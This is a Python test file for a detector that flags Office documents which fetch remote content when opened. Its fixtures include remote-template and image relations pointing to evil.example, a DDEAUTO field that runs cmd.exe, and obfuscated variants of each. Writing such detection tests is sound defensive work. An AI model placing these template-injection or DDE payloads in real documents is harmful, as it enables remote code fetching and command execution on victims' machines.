"""What an Office document would fetch from elsewhere as it is opened is seen, however it is written (Art. 12)."""

import time
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from rules.engine.archives import fetches
from rules.engine.uploads import FileKind, Flag, flags, sniff

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ONE = f'<Relationship Id="a" Type="{OFFICE}/%s" Target="%s"%s/>'
AWAY = ' TargetMode="External"'
TEMPLATE = ONE % ("attachedTemplate", "https://evil.example/a.dotm", AWAY)
FIELD = '<w:p><w:fldSimple w:instr="%s"/></w:p>'
INSTRUCTION = "<w:r><w:instrText>%s</w:instrText></w:r>"


def relations(one: str) -> str:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package">{one}</Relationships>'
    )


def document(text: str = "", **parts: str | bytes) -> bytes:
    """A document of Word with this in its text; `__` stands for a slash in the name of a part, `_` for a dot."""
    held = BytesIO()
    with ZipFile(held, "w", ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", f"<w:document>{text}</w:document>")
        for name, content in parts.items():
            package.writestr(name.replace("__", "/").replace("_", "."), content)
    return held.getvalue()


def related(written: str | bytes) -> bytes:
    """A document whose settings have these relations, in a part with another suffix in capitals."""
    return document(word__rels__settings_xml_RELS=written)


@pytest.mark.article(12)
@pytest.mark.parametrize(
    "written",
    [
        relations(TEMPLATE),
        relations(ONE % ("image", "https://evil.example/a.png", AWAY)),
        relations(ONE % ("attachedTemplate", "https://evil.example/hyperlink", AWAY)),
        relations(ONE % ("attachedTemplate", "https://evil.example/?a=>", AWAY)),
        relations(TEMPLATE.replace("External", "&#69;xternal")),
        relations(TEMPLATE.replace("<Relationship ", "<Relationship\t\n")),
        relations(TEMPLATE.replace('"', "'")),
        relations(f'<r:Relationship xmlns:r="http://schemas.openxmlformats.org/package"{TEMPLATE[13:]}'),
        relations(TEMPLATE).replace("?>", ' encoding="utf-16"?>').encode("utf-16"),
        '<!DOCTYPE a [<!ENTITY b "External">]>' + relations(TEMPLATE.replace("External", "&b;"))[21:],
        "<Relationships",
    ],
)
def test_a_relation_that_leads_away_is_seen_however_it_is_written(written: str | bytes) -> None:
    made = related(written)
    assert fetches(made)
    assert flags(made, sniff(made)) == {Flag.FETCHES}


@pytest.mark.parametrize(
    "text",
    [
        FIELD % r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;",
        FIELD % "includepicture &quot;https://evil.example/a.png&quot; \\d",
        INSTRUCTION % "INCLUDE" + INSTRUCTION % "TEXT &quot;https://evil.example&quot;",
        INSTRUCTION % "<![CDATA[DD]]>" + INSTRUCTION % "&#69;AUTO cmd",
        INSTRUCTION % "DD<!-- -->EAUTO cmd",
        INSTRUCTION % "QUOTE 68 68 69",
        INSTRUCTION % "LINK Excel.Sheet.8",
    ],
)
def test_a_field_that_fetches_or_starts_something_is_seen(text: str) -> None:
    assert fetches(document(text))
    assert fetches(document(elsewhere__text_xml=f"<w:hdr>{text}</w:hdr>"))


def test_data_of_a_spreadsheet_that_lie_elsewhere_are_seen() -> None:
    for name in ("xl__externalLinks__externalLink1_xml", "xl__connections_xml", "xl__queryTables__a_xml"):
        assert fetches(document(**{name: "<a/>"}))


def test_what_is_only_pressed_and_what_lies_inside_fetches_nothing() -> None:
    plain = document(FIELD % "PAGE" + INSTRUCTION % r" TOC \o " + INSTRUCTION % ' HYPERLINK "https://a.example" ')
    pressed = related(relations(ONE % ("hyperlink", "https://a.example", AWAY) + ONE % ("image", "media/a.png", "")))
    for made in (plain, pressed, document("DDEAUTO")):
        assert not fetches(made)
    assert flags(plain, FileKind.DOCX) == frozenset()


def test_a_document_that_is_made_to_be_looked_through_for_ever_is_not() -> None:
    began = time.process_time()
    for text in ("<w:fldSimple " * 900_000, "<w:instrText>" * 900_000, "&" * 12_000_000, "<!--" * 3_000_000):
        fetches(document(text))
    assert fetches(document("a" * 17_000_000))
    assert time.process_time() - began < 4
